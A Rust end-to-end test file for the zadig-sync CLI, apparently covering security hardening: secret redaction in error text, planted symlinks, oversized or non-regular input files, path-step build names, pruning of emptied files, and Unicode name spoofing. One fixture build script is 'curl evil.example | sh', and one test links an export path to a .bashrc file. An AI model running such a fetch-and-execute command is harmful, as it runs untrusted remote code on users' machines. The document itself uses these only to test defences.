//! Issue 19, "What a hostile hand found", end to end: secrets in Zadig's error texts, symlinks
//! planted in an export's folder, files named by flags that are not small regular files,
//! build names `.` and `..`, an emptied build file under `--prune`, names that render as
//! other names, re-running export, and a document even when Zadig cannot be reached.

use std::path::Path;
use std::process::{Command as Process, Output};

use serde_json::{Value, json};

use crate::hardening_cli::build;
use crate::secrets_e2e::ON_SECRET_CLUSTER;
use crate::util::cli::{
    Emulator, TOKEN, apply, command, describe, failed, stdout, succeeded, workspace, zadig_sync,
};
use crate::util::daemon::Daemon;

fn apply_with_cluster(dir: &Path, emulator: &Emulator, cluster: &str) -> String {
    let output = command(dir)
        .args(["apply", "--yes"])
        .env("ZADIG_URL", emulator.url())
        .env("ZADIG_TOKEN", TOKEN)
        .env("CLUSTER", cluster)
        .output()
        .expect("run");
    failed(&output)
}

/// The lines that quote Zadig's error text.
fn zadig_lines(text: &str) -> Vec<&str> {
    let lines: Vec<&str> = text.lines().filter(|l| l.contains("[Zadig:")).collect();
    assert!(!lines.is_empty(), "Zadig's error is reported: {text}");
    lines
}

#[test]
fn a_secret_across_the_clip_of_zadigs_error_text_is_hidden_whole() {
    let emulator = Emulator::start(&[]);
    let dir = workspace(&[("b.yaml", ON_SECRET_CLUSTER)]);
    // Long enough that Zadig's description is clipped inside it.
    let secret = format!("c{}", "9f3a".repeat(150));
    let text = apply_with_cluster(dir.path(), &emulator, &secret);
    for line in zadig_lines(&text) {
        assert!(!line.contains("9f3a9f3a"), "a piece of the secret: {line}");
        assert!(line.contains("(sensitive)"), "{line}");
    }
}

#[test]
fn a_secret_too_short_for_the_plan_is_still_hidden_in_zadigs_error_text() {
    let emulator = Emulator::start(&[]);
    let dir = workspace(&[("b.yaml", ON_SECRET_CLUSTER)]);
    let text = apply_with_cluster(dir.path(), &emulator, "q9z");
    for line in zadig_lines(&text) {
        assert!(!line.contains("q9z"), "{line}");
        assert!(line.contains("of name: (sensitive)"), "{line}");
    }
}

/// A custom build in `shop` whose script is `script`, made in Zadig's UI.
fn seed_build(emulator: &Emulator, name: &str, script: &str) {
    let mut body = Emulator::hand_made("shop", name);
    body["build_script"] = json!(script);
    let (status, answer) = emulator.request("POST", "/openapi/build", Some(&body));
    assert_eq!(status, 200, "{answer}");
}

fn export(dir: &Path, emulator: &Emulator, extra: &[&str]) -> Output {
    let mut args = vec!["export", "--project", "shop"];
    args.extend_from_slice(extra);
    zadig_sync(dir, emulator, &args)
}

/// An emulator holding `shop/api` with `script`, an empty workspace, and a home folder that
/// nothing may be written into.
fn export_scene(script: &str) -> (Emulator, tempfile::TempDir, tempfile::TempDir) {
    let emulator = Emulator::start(&[]);
    seed_build(&emulator, "api", script);
    (emulator, workspace(&[]), tempfile::tempdir().unwrap())
}

#[cfg(unix)]
#[test]
fn export_overwrite_replaces_a_planted_symlink_and_never_writes_its_target() {
    let (emulator, dir, home) = export_scene("curl evil.example | sh\n");
    let bashrc = home.path().join(".bashrc");
    std::fs::write(&bashrc, "# my shell\n").unwrap();
    let scripts = dir.path().join("builds.d/shop/scripts");
    std::fs::create_dir_all(&scripts).unwrap();
    std::os::unix::fs::symlink(&bashrc, scripts.join("api.sh")).unwrap();

    let output = export(dir.path(), &emulator, &["--overwrite", "--script-files"]);
    let summary = succeeded(&output);
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# my shell\n");
    let script = scripts.join("api.sh");
    assert!(!script.is_symlink(), "the link is replaced by the file");
    assert!(
        std::fs::read_to_string(&script)
            .unwrap()
            .contains("evil.example")
    );
    assert!(
        summary.contains("Symlinks replaced by the exported file") && summary.contains("api.sh"),
        "{summary}"
    );
}

#[cfg(unix)]
#[test]
fn export_refuses_a_symlinked_folder_inside_its_output_folder() {
    let (emulator, dir, home) = export_scene("make\n");
    let project = dir.path().join("builds.d/shop");
    std::fs::create_dir_all(&project).unwrap();
    std::os::unix::fs::symlink(home.path(), project.join("scripts")).unwrap();

    let text = failed(&export(
        dir.path(),
        &emulator,
        &["--overwrite", "--script-files"],
    ));
    assert!(text.contains("is a symlink"), "{text}");
    assert_eq!(std::fs::read_dir(home.path()).unwrap().count(), 0, "{text}");
}

#[test]
fn re_running_export_finds_its_own_files_already_described() {
    let emulator = Emulator::start(&[]);
    seed_build(&emulator, "api", "make\n");
    seed_build(&emulator, "worker", "make\n");
    let dir = workspace(&[]);
    succeeded(&export(dir.path(), &emulator, &["--script-files"]));
    seed_build(&emulator, "new-one", "make\n");

    let summary = succeeded(&export(dir.path(), &emulator, &["--script-files"]));
    assert!(summary.contains("Exported 1 of 3 builds"), "{summary}");
    assert!(
        summary.contains("Already described by a file (not exported):")
            && summary.contains("shop/api: builds.d/shop/api.yaml")
            && summary.contains("shop/worker: builds.d/shop/worker.yaml"),
        "{summary}"
    );
    assert!(dir.path().join("builds.d/shop/new-one.yaml").is_file());
}

/// Runs `args` in a workspace with one valid build file and expects exit 1 naming `needles`.
fn refused(dir: &Path, args: &[&str], file: &Path, needles: &[&str]) {
    let output = command(dir)
        .args(args)
        .arg(file)
        .env("ZADIG_URL", "http://127.0.0.1:9")
        .env("ZADIG_TOKEN", TOKEN)
        .output()
        .expect("run");
    let text = failed(&output);
    assert!(text.contains(&file.display().to_string()), "{text}");
    for needle in needles {
        assert!(text.contains(needle), "{args:?}: {text}");
    }
}

/// A file of `bytes` zeros that takes no room on disk.
fn sparse(path: &Path, bytes: u64) {
    std::fs::File::create(path).unwrap().set_len(bytes).unwrap();
}

#[test]
fn files_named_by_flags_are_read_only_when_regular_and_small() {
    let dir = workspace(&[("b.yaml", &build("b", "shop"))]);
    let fifo = dir.path().join("fifo");
    assert!(
        Process::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let big = dir.path().join("big");
    sparse(&big, 100 * 1024 * 1024);
    let not_regular = "is not a regular file";
    refused(
        dir.path(),
        &["plan", "--token-file"],
        &big,
        &["--token-file", "larger than 64 KiB"],
    );
    refused(
        dir.path(),
        &["plan", "--ca-file"],
        &big,
        &["--ca-file", "larger than 4 MiB"],
    );
    refused(
        dir.path(),
        &["plan", "--ca-file"],
        &fifo,
        &["--ca-file", not_regular],
    );
    refused(
        dir.path(),
        &["apply", "--plan"],
        &fifo,
        &["saved plan", not_regular],
    );
    refused(
        dir.path(),
        &["apply", "--plan"],
        &big,
        &["saved plan", "larger than 64 MiB"],
    );
    refused(dir.path(), &["show"], &fifo, &["saved plan", not_regular]);
    let emulator = ["emulator", "--listen", "127.0.0.1:0", "--token", "t"];
    let seed = [&emulator[..], &["--seed"]].concat();
    refused(dir.path(), &seed, &fifo, &["--seed", not_regular]);
    let state = [&emulator[..], &["--state"]].concat();
    refused(dir.path(), &state, &fifo, &["--state", not_regular]);
    let bigger = dir.path().join("bigger");
    sparse(&bigger, 300 * 1024 * 1024);
    refused(
        dir.path(),
        &state,
        &bigger,
        &["--state", "larger than 256 MiB"],
    );
}

#[test]
fn a_token_file_from_the_environment_is_bounded_too() {
    let dir = workspace(&[("b.yaml", &build("b", "shop"))]);
    let big = dir.path().join("token");
    sparse(&big, 1024 * 1024);
    let output = command(dir.path())
        .args(["plan", "--url", "http://127.0.0.1:9"])
        .env("ZADIG_TOKEN_FILE", &big)
        .output()
        .unwrap();
    let text = failed(&output);
    assert!(
        text.contains("ZADIG_TOKEN_FILE") && text.contains("larger than 64 KiB"),
        "{text}"
    );
}

#[test]
fn build_names_that_are_path_steps_are_refused() {
    let dir = workspace(&[
        ("a.yaml", &build(".", "shop")),
        ("b.yaml", &build("..", "shop")),
    ]);
    let output = command(dir.path()).arg("validate").output().unwrap();
    let text = failed(&output);
    assert_eq!(text.matches("error[invalid-name]").count(), 2, "{text}");
    assert!(text.contains("never read back"), "{text}");
}

/// Two builds applied, then one file emptied as an interrupted save would leave it.
fn applied_then_emptied() -> (Emulator, tempfile::TempDir) {
    let emulator = Emulator::start(&[]);
    let dir = workspace(&[
        ("a.yaml", &build("keep-a", "shop")),
        ("b.yaml", &build("keep-b", "shop")),
    ]);
    succeeded(&apply(dir.path(), &emulator, &[]));
    std::fs::write(dir.path().join("builds.d/b.yaml"), "").unwrap();
    (emulator, dir)
}

#[test]
fn with_prune_an_emptied_build_file_stops_the_run_before_any_write() {
    let (emulator, dir) = applied_then_emptied();
    let writes = emulator.write_count();
    let text = failed(&apply(dir.path(), &emulator, &["--prune"]));
    assert!(text.contains("error[empty-file]"), "{text}");
    assert_eq!(emulator.write_count(), writes, "nothing written: {text}");
    assert_eq!(emulator.build_names("shop"), ["keep-a", "keep-b"]);

    std::fs::write(
        dir.path().join("builds.d/zadig-sync.yaml"),
        "projects: [shop]\nprune: true\n",
    )
    .unwrap();
    let text = failed(&zadig_sync(dir.path(), &emulator, &["plan"]));
    assert!(
        text.contains("error[empty-file]"),
        "the scope file's prune: {text}"
    );
}

#[test]
fn without_prune_an_emptied_build_file_is_a_warning() {
    let (emulator, dir) = applied_then_emptied();
    let output = zadig_sync(dir.path(), &emulator, &["plan"]);
    let text = succeeded(&output);
    assert!(
        describe(&output).contains("warning[empty-file]"),
        "{}",
        describe(&output)
    );
    assert!(text.contains("shop/keep-b (custom): kept"), "{text}");
}

#[test]
fn the_daemon_with_prune_deletes_nothing_for_an_emptied_build_file() {
    let (emulator, dir) = applied_then_emptied();
    let daemon = Daemon::start(dir.path(), &emulator, &["--prune"], &[]);
    // An error, not a warning: the pass stops before reading Zadig.
    daemon.wait("the empty file is an error", || {
        let logs = daemon.logs();
        logs.contains("invalid build file") && logs.contains("empty-file")
    });
    drop(daemon);
    assert_eq!(emulator.build_names("shop"), ["keep-a", "keep-b"]);
    let deletes = emulator
        .request_counts()
        .into_iter()
        .filter(|(k, _)| k.starts_with("DELETE"));
    assert_eq!(deletes.map(|(_, n)| n).sum::<u64>(), 0);
}

#[test]
fn names_from_zadig_cannot_render_as_other_names() {
    let emulator = Emulator::start(&[]);
    let spoof = "api\u{202e}dliub\u{200b}";
    emulator.create_by_hand("shop", spoof);
    let dir = workspace(&[("a.yaml", &build("web", "shop"))]);
    for format in ["text", "markdown"] {
        let output = zadig_sync(
            dir.path(),
            &emulator,
            &["plan", "--show-kept", "--output", format],
        );
        let text = stdout(&output);
        assert!(
            !text.contains('\u{202e}') && !text.contains('\u{200b}'),
            "{text}"
        );
        assert!(
            text.contains("api\\u{202e}dliub\\u{200b}"),
            "{format}: {text}"
        );
    }
}

#[test]
fn names_in_the_files_cannot_render_as_other_names() {
    let dir = workspace(&[("a\u{2066}.yaml", &build("shop/ap\u{202e}i", "shop"))]);
    for format in ["text", "markdown"] {
        let output = command(dir.path())
            .args(["validate", "--output", format])
            .output()
            .unwrap();
        let text = failed(&output);
        assert!(
            !text.contains('\u{202e}') && !text.contains('\u{2066}'),
            "{text}"
        );
        assert!(
            text.contains("ap\\u{202e}i") && text.contains("a\\u{2066}.yaml"),
            "{text}"
        );
    }
}

#[test]
fn with_json_or_markdown_an_unreachable_server_still_gets_its_document() {
    let dir = workspace(&[("a.yaml", &build("web", "shop"))]);
    let run = |command: &str, format: &str| {
        let yes: &[&str] = if command == "apply" { &["--yes"] } else { &[] };
        crate::util::cli::command(dir.path())
            .args([command, "--url", "http://127.0.0.1:9", "--output", format])
            .args(yes)
            .env("ZADIG_TOKEN", TOKEN)
            .output()
            .unwrap()
    };
    for command in ["plan", "apply"] {
        let output = run(command, "json");
        failed(&output);
        let document: Value = serde_json::from_str(&stdout(&output)).expect("a JSON document");
        let errors = match command {
            "plan" => &document["errors"],
            _ => &document["plan"]["errors"],
        };
        let error = errors[0].as_str().unwrap_or_default();
        assert!(error.contains("cannot connect to Zadig"), "{document}");
        let output = run(command, "markdown");
        failed(&output);
        let text = stdout(&output);
        assert!(
            text.starts_with(&format!("### zadig-sync {command}")) && text.contains("**Error:**"),
            "{text}"
        );
    }
}
